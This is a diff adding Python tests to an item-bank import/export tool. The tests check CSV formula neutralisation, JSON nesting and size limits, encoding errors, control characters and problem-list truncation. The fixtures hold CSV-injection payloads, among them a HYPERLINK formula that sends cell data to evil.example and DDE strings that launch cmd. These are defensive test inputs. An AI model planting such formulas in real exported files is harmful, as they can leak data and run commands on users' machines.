@@ -369,3 +369,118 @@ def test_unknown_extension_and_merged_files(tmp_path: Path) -> None:
     assert [str(p) for p in info.value.problems] == [
         "b.json: items[0].key[0]: key 'Z' is not among the options A, B, C, D"
     ]
+
+
+# ------------------------------------------------------------------------------------ formulas
+FORMULA_TEXTS = {
+    "stem": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "option": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "rationale": "+1+cmd|' /C calc'!A0",
+    "tf_stem": "-1 是负数。",
+    "title": "'=an apostrophe already",
+    "body": "=cmd|' /C notepad'!A0",
+}
+
+
+def _formula_bundle() -> dict[str, Any]:
+    doc = samples.bundle()
+    doc["stimuli"][0]["title"] = FORMULA_TEXTS["title"]
+    doc["stimuli"][0]["body"] = FORMULA_TEXTS["body"]
+    doc["items"][0]["stem"] = FORMULA_TEXTS["stem"]
+    doc["items"][0]["options"][0]["text"] = FORMULA_TEXTS["option"]
+    doc["items"][0]["rationale"] = FORMULA_TEXTS["rationale"]
+    doc["items"][2]["stem"] = FORMULA_TEXTS["tf_stem"]
+    return doc
+
+
+def test_csv_export_neutralises_formulas_and_imports_back_unchanged(engine: Engine, fresh_sqlite: Engine) -> None:
+    from itembank.tabular import looks_like_formula
+
+    _import(engine, dump_json(_formula_bundle()).encode("utf-8"), fmt="json")
+    exported = _export(engine, fmt="csv")
+    records = list(csv.reader(io.StringIO(exported.decode("utf-8"), newline="")))
+    assert not [cell for record in records for cell in record if looks_like_formula(cell)]
+    cells = {cell for record in records for cell in record}
+    for text in FORMULA_TEXTS.values():
+        assert "'" + text in cells  # written with OWASP's leading quote
+    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(exported.decode("utf-8")))}
+    assert rows["T4.3-001"]["b"] == "-0.4"  # a plain number stays a number
+    summary = _import(fresh_sqlite, exported, fmt="csv")
+    assert len(summary.created) == 5
+    assert _export(fresh_sqlite, fmt="json") == _export(engine, fmt="json")  # identical bank
+    assert _export(fresh_sqlite, fmt="csv") == exported
+    stored = json.loads(_export(fresh_sqlite, fmt="json"))
+    by_code = {i["code"]: i for i in stored["items"]}
+    assert by_code["T4.3-001"]["stem"] == FORMULA_TEXTS["stem"]
+    assert stored["stimuli"][0]["title"] == FORMULA_TEXTS["title"]
+
+
+# ------------------------------------------------------------------------------------ limits
+def test_deeply_nested_json_is_a_problem_not_a_crash() -> None:
+    bundle = parse_json(b'{"items": ' + b"[" * 50_000 + b"]" * 50_000 + b"}")
+    assert [p.message for p in bundle.problems] == ["nested more than 32 levels deep (the limit)"]
+    doc = samples.bundle()
+    nested: Any = "x"
+    for _ in range(40):
+        nested = [nested]
+    doc["items"][4]["parts"][0]["options"] = nested
+    bundle = parse_json(dump_json(doc).encode("utf-8"))
+    assert bundle.problems[0].where.startswith("items[4].parts[0].options")
+    with pytest.raises(ValidationReport):
+        validate_bundle(bundle, CONTEXT)
+
+
+def test_a_deep_json_cell_in_a_csv_is_located() -> None:
+    def mutate(rows: list[dict[str, str]]) -> None:
+        rows[4]["parts_json"] = "[" * 40 + "]" * 40
+
+    bundle = parse_csv(_csv_rows(mutate))
+    assert [str(p) for p in bundle.problems] == ["row 6, parts_json: nested more than 32 levels deep (the limit)"]
+
+
+def test_item_files_have_size_and_count_limits(tmp_path: Path) -> None:
+    from itembank.tabular import ReadLimits
+
+    path = samples.write_json(tmp_path / "a.json")
+    small = ReadLimits(max_bytes=100)
+    assert read_bundle(path, limits=small).problems[0].message.endswith("more than the limit of 0 MiB: split it")
+    few = ReadLimits(max_rows=3)
+    assert parse_json(path.read_bytes(), limits=few).problems[0].message == "5 entries, more than the limit of 3"
+    valid = _validate(samples.bundle())
+    csv_raw = csv_text(valid.stimuli, valid.items).encode("utf-8")
+    assert "more than 3 data rows" in parse_csv(csv_raw, limits=few).problems[0].message
+
+
+def test_a_cut_file_and_json_advice() -> None:
+    raw = dump_json(samples.bundle()).encode("utf-8")
+    cut = raw[: raw.index("中".encode()) + 1]
+    problem = parse_json(cut).problems[0]
+    assert "ends in the middle of a character" in problem.message and "GBK" not in problem.message
+    gbk = parse_json('{"stem": "信息"}'.encode("gbk")).problems[0]
+    assert "GBK" in gbk.message and "CSV" not in gbk.message and "save it as UTF-8" in gbk.message
+
+
+def test_control_characters_are_refused_wherever_they_are() -> None:
+    doc = samples.bundle()
+    doc["items"][0]["stem"] = "null \x00 byte"
+    doc["items"][4]["parts"][1]["prompt"] = "bell \x07"
+    doc["stimuli"][0]["body"] = "lone \ud800 surrogate"
+    doc["items"][1]["stem"] = "tabs\tand\nnew lines are fine"
+    with pytest.raises(ValidationReport) as info:  # ASCII JSON: the surrogate travels as an escape
+        validate_bundle(parse_json(json.dumps(doc).encode("ascii")), CONTEXT)
+    problems = {p.where: p.message for p in info.value.problems}
+    assert problems["items[0].stem"] == "contains the control character U+0000; remove it"
+    assert problems["items[4].parts[1].prompt"] == "contains the control character U+0007; remove it"
+    assert problems["stimuli[0].body"] == "contains the control character U+D800; remove it"
+    assert "items[1].stem" not in problems
+
+
+def test_only_the_first_50_problems_are_listed_and_the_rest_counted() -> None:
+    doc = samples.bundle()
+    doc["items"] = [dict(doc["items"][2], code=f"T2.1-{i:03d}", key=["X"]) for i in range(120)]
+    with pytest.raises(ValidationReport) as info:
+        _validate(doc)
+    report = info.value
+    assert len(report.problems) == 50 and report.more == 70 and report.total == 120
+    assert report.problems[0].where == "items[0].key" and report.problems[-1].where == "items[49].key"
+    assert str(report).endswith("...and 70 more")
